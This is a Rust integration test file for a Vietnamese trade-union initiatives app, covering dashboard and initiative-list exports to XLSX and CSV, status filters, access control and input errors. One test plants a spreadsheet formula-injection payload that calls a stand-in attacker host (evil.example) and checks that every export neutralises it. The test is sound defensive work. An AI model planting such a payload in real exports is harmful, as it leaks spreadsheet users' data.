//! Exports and a union's initiative list over real HTTP: the dashboard's table as XLSX (read
//! back with calamine: title, Vietnamese headers, the numbers a user sees) and CSV (BOM, then
//! a parsable table); the initiatives of a subtree by status group, paged, exported and as a
//! page; who may see them; bad input answered 400 with a code.

use calamine::{Data, Reader, Xlsx};
use reqwest::Response;
use serde_json::{Value, json};

use crate::helpers::{Backend, TestApp, approve, distinct_draft, expect_error, json, submit, who};
use crate::pages::{sign_in, text};

const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

/// The bytes of a download, after checking its headers.
async fn download(res: Response, content_type: &str, extension: &str) -> Vec<u8> {
    assert_eq!(res.status(), 200);
    let h = res.headers();
    assert_eq!(h["content-type"], content_type);
    assert_eq!(h["x-content-type-options"], "nosniff");
    let cd = h["content-disposition"].to_str().unwrap().to_owned();
    assert!(cd.starts_with("attachment"), "{cd}");
    assert!(cd.contains("filename*=UTF-8''"), "{cd}");
    assert!(
        cd.contains(&format!(".{extension}\"")),
        "ASCII fallback: {cd}"
    );
    res.bytes().await.unwrap().to_vec()
}

/// The first worksheet's cells, as rows.
fn sheet(bytes: Vec<u8>, name: &str) -> Vec<Vec<Data>> {
    let mut wb: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
    assert_eq!(wb.sheet_names(), vec![name.to_owned()]);
    let range = wb.worksheet_range(name).unwrap();
    assert_eq!(range.start(), Some((0, 0)));
    range.rows().map(<[Data]>::to_vec).collect()
}

fn text_of(d: &Data) -> String {
    match d {
        Data::String(s) => s.clone(),
        Data::Empty => String::new(),
        other => other.to_string(),
    }
}

fn number_of(d: &Data) -> f64 {
    match d {
        Data::Float(f) => *f,
        Data::Int(i) => *i as f64,
        other => panic!("not a number: {other:?}"),
    }
}

/// The rows of a CSV download, after checking the byte-order mark.
fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "no BOM");
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(&bytes[3..]);
    r.records()
        .map(|rec| rec.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// Three initiatives from Cao Bằng's customs union (two approved) and one from Lạng Sơn; a
/// quota of 10% of members (16) for Cao Bằng's civil-servants union.
async fn seed(app: &TestApp, w: &crate::helpers::World) -> Vec<i64> {
    let member = app.login(who::MEMBER_A).await;
    let mut ids = Vec::new();
    for n in 0..3 {
        let out = submit(app, &member, &distinct_draft(w, n)).await;
        assert_eq!(out["_status"], 200, "{out}");
        ids.push(out["_id"].as_i64().unwrap());
    }
    approve(app, ids[0]).await;
    approve(app, ids[1]).await;
    let member_b = app.login(who::MEMBER_B).await;
    let out = submit(app, &member_b, &distinct_draft(w, 3)).await;
    assert_eq!(out["_status"], 200, "{out}");
    ids.push(out["_id"].as_i64().unwrap());
    let (cb_vc, program) = (w.cb_vc, w.program);
    app.db
        .write(move |conn| {
            sangkien::db::programs::set_quota(
                conn,
                &sangkien::db::programs::QuotaSet {
                    program_id: program,
                    phase_id: None,
                    union_id: cb_vc,
                    kind: "percent_of_members",
                    value: 1_000,
                    members_as_of: None,
                    member_basis: None,
                },
                sangkien::db::now(),
            )?;
            Ok(())
        })
        .await
        .unwrap();
    ids
}

crate::on_both_backends!(
    dashboard_exports_as_excel_and_csv,
    a_unions_initiatives_by_status_and_subtree,
    formulas_never_reach_a_spreadsheet,
);

async fn dashboard_exports_as_excel_and_csv(backend: Backend) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let w = app.world().await;
    seed(&app, &w).await;
    let officer = app.login(who::OFFICER_A).await;
    let program = w.program;
    let url = format!(
        "/api/v1/unions/{}/dashboard/export?program_id={program}&format=xlsx",
        w.cb
    );
    let rows = sheet(
        download(app.get(&url, &officer).await, XLSX, "xlsx").await,
        "Thành tích",
    );
    // The title: union, program, period, time of the figures, counting rule.
    assert_eq!(
        text_of(&rows[0][0]),
        "KẾT QUẢ THỰC HIỆN CHỈ TIÊU SÁNG KIẾN – LĐLĐ TỈNH CAO BẰNG"
    );
    assert_eq!(text_of(&rows[1][0]), "Chương trình: Chương trình OPEN");
    assert!(text_of(&rows[2][0]).starts_with("Thời gian: toàn bộ chương trình"));
    assert!(text_of(&rows[3][0]).starts_with("Số liệu tính đến "));
    assert!(text_of(&rows[4][0]).starts_with("Quy tắc đếm: Lượt tham gia"));
    let headers: Vec<String> = rows[6].iter().map(text_of).collect();
    assert_eq!(
        headers,
        [
            "Mã đơn vị",
            "Tên đơn vị",
            "Cấp",
            "Cụm thi đua",
            "Chỉ tiêu",
            "Lượt tham gia",
            "Đang xét",
            "Được thông qua",
            "Không thông qua",
            "Trùng lặp",
            "Bị thu hồi",
            "Tỷ lệ đạt (%)"
        ]
    );
    // The union's own line, then its children.
    let own = &rows[7];
    assert_eq!(text_of(&own[0]), "CB");
    assert_eq!(text_of(&own[1]), "LĐLĐ tỉnh Cao Bằng");
    assert_eq!(number_of(&own[5]), 3.0);
    assert_eq!(number_of(&own[6]), 1.0);
    assert_eq!(number_of(&own[7]), 2.0);
    let vc = rows
        .iter()
        .find(|r| text_of(&r[0]) == "CB-VC")
        .expect("the child's line");
    assert_eq!(text_of(&vc[2]), "Công đoàn cấp trên trực tiếp cơ sở");
    assert_eq!(number_of(&vc[4]), 16.0, "quota: {vc:?}");
    assert_eq!(number_of(&vc[7]), 2.0);
    // 12,5% as an Excel percentage.
    assert!((number_of(&vc[11]) - 0.125).abs() < 1e-9, "{vc:?}");
    assert_eq!(
        rows.len(),
        9,
        "title, blank, header, own line and one child"
    );

    // CSV: the BOM, the header first, plain numbers.
    let url = format!(
        "/api/v1/unions/{}/dashboard/export?program_id={program}&format=csv&sort=approved",
        w.cb
    );
    let rows = csv_rows(
        &download(
            app.get(&url, &officer).await,
            "text/csv; charset=utf-8",
            "csv",
        )
        .await,
    );
    assert_eq!(rows[0][0], "Mã đơn vị");
    assert_eq!(rows[0][11], "Tỷ lệ đạt (%)");
    assert_eq!(rows[1][..2], ["CB", "LĐLĐ tỉnh Cao Bằng"]);
    assert_eq!(rows[1][5], "3");
    assert_eq!(rows[2][0], "CB-VC");
    assert_eq!(rows[2][4], "16");
    assert_eq!(rows[2][11], "12.5");

    // The page routes, with the session cookie.
    let browser = sign_in(&app, who::OFFICER_A).await;
    let res = browser
        .get(format!(
            "{}/don-vi/{}/thanh-tich.csv?program_id={program}&phase_id=&sort=",
            app.base, w.cb
        ))
        .send()
        .await
        .unwrap();
    let rows = csv_rows(&download(res, "text/csv; charset=utf-8", "csv").await);
    assert_eq!(rows[1][0], "CB");
    let res = browser
        .get(format!(
            "{}/don-vi/{}/thanh-tich.xlsx?program_id={program}",
            app.base, w.cb
        ))
        .send()
        .await
        .unwrap();
    let rows = sheet(download(res, XLSX, "xlsx").await, "Thành tích");
    assert_eq!(text_of(&rows[7][0]), "CB");

    // Another province's officer: not found. Bad input: 400 with a code.
    let other = app.login(who::OFFICER_B).await;
    expect_error(app.get(&url, &other).await, 404, "not_found").await;
    let bad = format!(
        "/api/v1/unions/{}/dashboard/export?program_id={program}&format=pdf",
        w.cb
    );
    expect_error(app.get(&bad, &officer).await, 400, "invalid_query").await;
    let bad = format!("/api/v1/unions/{}/dashboard/export?program_id=999999", w.cb);
    let e = expect_error(app.get(&bad, &officer).await, 400, "validation_failed").await;
    assert!(
        e["error"]["details"]["fields"]["program_id"].is_string(),
        "{e}"
    );
    let res = browser
        .get(format!(
            "{}/don-vi/{}/thanh-tich.xlsx?program_id=abc",
            app.base, w.cb
        ))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 400);
    assert!(text(res).await.contains("Mã chương trình không hợp lệ."));
}

fn titles(page: &Value) -> Vec<String> {
    page["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["title"].as_str().unwrap().to_owned())
        .collect()
}

async fn a_unions_initiatives_by_status_and_subtree(backend: Backend) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let w = app.world().await;
    let ids = seed(&app, &w).await;
    let officer = app.login(who::OFFICER_A).await;
    let program = w.program;
    let list = |union: i64, extra: &str| {
        format!("/api/v1/unions/{union}/initiatives?program_id={program}{extra}")
    };

    // Every submitted initiative of the subtree, newest first; not Lạng Sơn's.
    let page = json(app.get(&list(w.cb, ""), &officer).await).await;
    assert_eq!(page["total"], 3, "{page}");
    assert_eq!(page["status"], "submitted");
    let got: Vec<i64> = page["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["id"].as_i64().unwrap())
        .collect();
    assert_eq!(got, [ids[2], ids[1], ids[0]], "{page}");
    let first = &page["items"][0];
    assert_eq!(first["union_name"], "CĐCS Cục Hải quan Cao Bằng");
    assert_eq!(first["field_name"], "Chuyển đổi số");
    assert_eq!(first["authors"], json!(["Lục Thị Đoàn"]));
    assert_eq!(first["status_label"], "Đã nộp");
    assert!(first["receipt_no"].is_string(), "{first}");
    assert!(first["submitted_at"].is_string());

    // By status group, as the dashboard counts them.
    let page = json(app.get(&list(w.cb, "&status=approved"), &officer).await).await;
    assert_eq!(page["total"], 2);
    assert_eq!(page["items"][0]["status_label"], "Được thông qua");
    assert!(page["items"][0]["decided_at"].is_string());
    let page = json(app.get(&list(w.cb, "&status=under_review"), &officer).await).await;
    assert_eq!(page["total"], 1);
    assert_eq!(page["items"][0]["id"], ids[2]);
    let page = json(app.get(&list(w.cb, "&status=rejected"), &officer).await).await;
    assert_eq!(page["total"], 0);
    assert_eq!(page["pages"], 1);

    // Subtrees: the grassroots union holds all three; the root (program admin) all four.
    let page = json(app.get(&list(w.cb_hq, ""), &officer).await).await;
    assert_eq!(page["total"], 3);
    let admin = app.login(who::PADMIN).await;
    let page = json(app.get(&list(w.root, "&per_page=2"), &admin).await).await;
    assert_eq!(page["total"], 4);
    assert_eq!(page["pages"], 2);
    assert_eq!(page["items"][0]["id"], ids[3]);
    let page = json(app.get(&list(w.root, "&per_page=2&page=2"), &admin).await).await;
    assert_eq!(titles(&page).len(), 2);
    assert_eq!(page["items"][1]["id"], ids[0]);
    let phase_list = json(
        app.get(&list(w.ls, ""), &app.login(who::OFFICER_B).await)
            .await,
    )
    .await;
    assert_eq!(phase_list["total"], 1);

    // Another province's officer, or a member, gets 404.
    let other = app.login(who::OFFICER_B).await;
    expect_error(app.get(&list(w.cb, ""), &other).await, 404, "not_found").await;
    let member = app.login(who::MEMBER_A).await;
    expect_error(app.get(&list(w.cb, ""), &member).await, 404, "not_found").await;
    let export = format!(
        "/api/v1/unions/{}/initiatives/export?program_id={program}&format=csv",
        w.cb
    );
    expect_error(app.get(&export, &other).await, 404, "not_found").await;

    // Bad input: 400 with a code.
    let e = expect_error(
        app.get(&list(w.cb, "&page=3"), &officer).await,
        400,
        "invalid_query",
    )
    .await;
    assert_eq!(e["error"]["details"]["parameter"], "page", "{e}");
    assert!(
        e["error"]["message"]
            .as_str()
            .unwrap()
            .contains("không tồn tại")
    );
    expect_error(
        app.get(&list(w.cb, "&status=nope"), &officer).await,
        400,
        "invalid_query",
    )
    .await;
    expect_error(
        app.get(&list(w.cb, "&page=0"), &officer).await,
        400,
        "invalid_query",
    )
    .await;
    let bad = format!("/api/v1/unions/{}/initiatives?program_id=999999", w.cb);
    expect_error(app.get(&bad, &officer).await, 400, "validation_failed").await;
    let bad = format!(
        "/api/v1/unions/{}/initiatives?program_id={program}&phase_id=999999",
        w.cb
    );
    expect_error(app.get(&bad, &officer).await, 400, "validation_failed").await;
    expect_error(
        app.get(&format!("{export}x"), &officer).await,
        400,
        "invalid_query",
    )
    .await;

    // The export holds the whole list.
    let rows = csv_rows(
        &download(
            app.get(&export, &officer).await,
            "text/csv; charset=utf-8",
            "csv",
        )
        .await,
    );
    assert_eq!(rows[0][..3], ["STT", "Số tiếp nhận", "Tên sáng kiến"]);
    assert_eq!(rows.len(), 4);
    assert_eq!(rows[3][0], "3");
    assert_eq!(rows[3][3], "Lục Thị Đoàn");
    assert_eq!(rows[3][6], "Được thông qua");
    let xlsx = export.replace("format=csv", "format=xlsx&status=approved");
    let rows = sheet(
        download(app.get(&xlsx, &officer).await, XLSX, "xlsx").await,
        "Danh sách sáng kiến",
    );
    assert_eq!(
        text_of(&rows[0][0]),
        "DANH SÁCH SÁNG KIẾN – LĐLĐ TỈNH CAO BẰNG"
    );
    assert!(text_of(&rows[2][0]).contains("Trạng thái: Được thông qua"));
    assert_eq!(text_of(&rows[6][2]), "Tên sáng kiến");
    assert_eq!(rows.len(), 9, "title, blank, header and two approved");
    assert!(
        matches!(rows[7][7], Data::DateTime(_)),
        "a date: {:?}",
        rows[7][7]
    );

    // The page: the list, links to each initiative, downloads; 404 for another province.
    let browser = sign_in(&app, who::OFFICER_A).await;
    let res = browser
        .get(format!(
            "{}/don-vi/{}/sang-kien?program_id={program}&phase_id=&status=approved",
            app.base, w.cb
        ))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    let html = text(res).await;
    assert!(html.contains("Sáng kiến của LĐLĐ tỉnh Cao Bằng"), "{html}");
    assert!(html.contains(&format!("href=\"/sang-kien/{}\"", ids[0])));
    assert!(!html.contains(&format!("href=\"/sang-kien/{}\"", ids[2])));
    assert!(html.contains("Tải Excel") && html.contains("Tải CSV"));
    let link = format!(
        "/don-vi/{}/sang-kien.xlsx?program_id={program}&#38;status=approved",
        w.cb
    );
    assert!(html.contains(&link), "{link} in {html}");
    let res = browser
        .get(format!(
            "{}/don-vi/{}/sang-kien.csv?program_id={program}",
            app.base, w.cb
        ))
        .send()
        .await
        .unwrap();
    assert_eq!(
        csv_rows(&download(res, "text/csv; charset=utf-8", "csv").await).len(),
        4
    );
    let res = browser
        .get(format!(
            "{}/don-vi/{}/sang-kien?program_id={program}",
            app.base, w.ls
        ))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 404);
    let res = browser
        .get(format!(
            "{}/don-vi/{}/sang-kien?program_id={program}&status=nope",
            app.base, w.cb
        ))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 400);
    app.review_counters_agree().await;
}

/// What a spreadsheet would run as a formula when the cell starts with it (OWASP).
fn looks_like_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// The text of a zip entry.
fn unzip(bytes: &[u8], name: &str) -> String {
    use std::io::Read;
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut out = String::new();
    zip.by_name(name).unwrap().read_to_string(&mut out).unwrap();
    out
}

/// Issue 22, item 5: a title, union names and a cluster that start like a formula come out
/// of every CSV export (API and pages) behind a `'`, and XLSX exports keep them as strings.
async fn formulas_never_reach_a_spreadsheet(backend: Backend) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let w = app.world().await;
    let program = w.program;
    let admin = app.login(who::ADMIN).await;
    let evil = r#"=HYPERLINK("http://evil.example/?"&A1,"Bấm")"#;
    let names = [
        (
            w.cb,
            json!({"name": "=LĐLĐ tỉnh Cao Bằng", "cluster": "@Cụm miền núi"}),
        ),
        (w.ls, json!({"cluster": "@Cụm miền núi"})),
        (w.cb_vc, json!({"name": "+Công đoàn Viên chức"})),
        (w.cb_hq, json!({"name": "-CĐCS Hải quan"})),
    ];
    for (id, body) in names {
        let res = app
            .patch(&format!("/api/v1/unions/{id}"), &admin, &body)
            .await;
        assert_eq!(res.status(), 200, "{}", json(res).await);
    }
    let member = app.login(who::MEMBER_A).await;
    let mut draft = distinct_draft(&w, 0);
    draft["title"] = json!(evil);
    let out = submit(&app, &member, &draft).await;
    assert_eq!(out["_status"], 200, "{out}");
    approve(&app, out["_id"].as_i64().unwrap()).await;

    let officer = app.login(who::OFFICER_A).await;
    let browser = sign_in(&app, who::ADMIN).await;
    let page = |path: String| {
        let browser = browser.clone();
        let url = format!("{}{path}", app.base);
        async move { browser.get(url).send().await.unwrap() }
    };
    let csvs = [
        (
            "API initiatives",
            app.get(
                &format!(
                    "/api/v1/unions/{}/initiatives/export?program_id={program}&format=csv",
                    w.cb
                ),
                &officer,
            )
            .await,
        ),
        (
            "API dashboard",
            app.get(
                &format!(
                    "/api/v1/unions/{}/dashboard/export?program_id={program}&format=csv",
                    w.root
                ),
                &admin,
            )
            .await,
        ),
        (
            "page initiatives",
            page(format!(
                "/don-vi/{}/sang-kien.csv?program_id={program}",
                w.cb
            ))
            .await,
        ),
        (
            "page dashboard",
            page(format!(
                "/don-vi/{}/thanh-tich.csv?program_id={program}",
                w.cb
            ))
            .await,
        ),
        (
            "page leaderboard",
            page(format!(
                "/don-vi/{}/xep-hang.csv?program_id={program}",
                w.root
            ))
            .await,
        ),
    ];
    let mut seen = std::collections::BTreeSet::new();
    for (what, res) in csvs {
        let rows = csv_rows(&download(res, "text/csv; charset=utf-8", "csv").await);
        for cell in rows.iter().flatten() {
            assert!(!looks_like_formula(cell), "{what}: {cell:?} in {rows:?}");
            if cell.starts_with('\'') {
                seen.insert((what, cell.clone()));
            }
        }
    }
    let expect = [
        ("API initiatives", format!("'{evil}")),
        ("API initiatives", "'-CĐCS Hải quan".to_owned()),
        ("page initiatives", format!("'{evil}")),
        ("API dashboard", "'=LĐLĐ tỉnh Cao Bằng".to_owned()),
        ("API dashboard", "'@Cụm miền núi".to_owned()),
        ("page dashboard", "'+Công đoàn Viên chức".to_owned()),
        ("page leaderboard", "'=LĐLĐ tỉnh Cao Bằng".to_owned()),
    ];
    for (what, cell) in expect {
        assert!(
            seen.contains(&(what, cell.clone())),
            "{what}: {cell} in {seen:?}"
        );
    }

    // XLSX keeps them as strings: shared strings (`t="s"`) or inline, never a formula.
    let xlsxs = [
        app.get(
            &format!(
                "/api/v1/unions/{}/initiatives/export?program_id={program}&format=xlsx",
                w.cb
            ),
            &officer,
        )
        .await,
        page(format!(
            "/don-vi/{}/thanh-tich.xlsx?program_id={program}",
            w.root
        ))
        .await,
    ];
    for res in xlsxs {
        let bytes = download(res, XLSX, "xlsx").await;
        let sheet = unzip(&bytes, "xl/worksheets/sheet1.xml");
        assert!(!sheet.contains("<f"), "a formula: {sheet}");
        let strings = unzip(&bytes, "xl/sharedStrings.xml");
        assert!(
            strings.contains("=HYPERLINK(") || strings.contains("=LĐLĐ tỉnh Cao Bằng"),
            "{strings}"
        );
        // Shared strings are read only by string cells (`t="s"`): the text is data.
        assert!(sheet.contains(r#"t="s""#), "{sheet}");
    }
}
